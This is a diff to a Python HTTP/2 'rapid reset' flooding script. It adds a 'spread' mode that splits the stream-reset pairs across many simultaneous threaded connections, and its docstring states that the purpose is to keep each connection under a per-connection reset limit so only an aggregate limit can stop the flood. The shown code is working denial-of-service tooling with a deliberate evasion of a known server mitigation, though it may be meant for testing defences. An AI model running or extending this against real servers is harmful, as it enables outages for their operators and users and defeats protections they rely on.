@@ -11,7 +11,14 @@ read and fed to h2 (SETTINGS acks, PING answers, GOAWAY).
 
 Prints one JSON line: {"sent": N, "seconds": S, "closed_by_server": K, ...}.
 
-  h2_rapid_reset.py HOST PORT PAIRS [CONNS] [BATCH]
+  h2_rapid_reset.py HOST PORT PAIRS [CONNS] [BATCH] [MODE]
+
+MODE "reconnect" (default): CONNS processes, each reconnecting whenever the
+server closes its connection. MODE "spread": CONNS connections at once (one
+thread each, PAIRS/CONNS pairs each, no reconnect), so that every
+connection stays under a per-connection reset limit and only an agent-wide
+one can hold the total back; "done" counts connections whose final PING was
+answered, i.e. whose pairs all reached the server.
 """
 
 import json
@@ -174,11 +181,41 @@ def flood_connection(host, port, pairs, batch):
     return result
 
 
+def spread(host, port, pairs, conns, batch):
+    import threading
+    results = [None] * conns
+    share = pairs // conns
+
+    def one(i):
+        results[i] = flood_connection(host, port, share, batch)
+
+    threads = [threading.Thread(target=one, args=(i,)) for i in range(conns)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    return results
+
+
 def main():
     host, port, pairs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
     conns = int(sys.argv[4]) if len(sys.argv) > 4 else 1
     batch = int(sys.argv[5]) if len(sys.argv) > 5 else 200
+    mode = sys.argv[6] if len(sys.argv) > 6 else "reconnect"
     start = time.monotonic()
+    if mode == "spread":
+        results = spread(host, port, pairs, conns, batch)
+        print(json.dumps({
+            "sent": sum(r["sent"] for r in results),
+            "seconds": round(time.monotonic() - start, 3),
+            "connections": conns,
+            "closed_by_server": sum(bool(r["closed_by_server"])
+                                    for r in results),
+            "done": sum(bool(r.get("acked")) for r in results),
+            "errors": [r["error"] for r in results if r["error"]],
+        }))
+        sys.stdout.flush()
+        os._exit(0)
     q = multiprocessing.Queue()
     procs = []
     share = pairs // conns
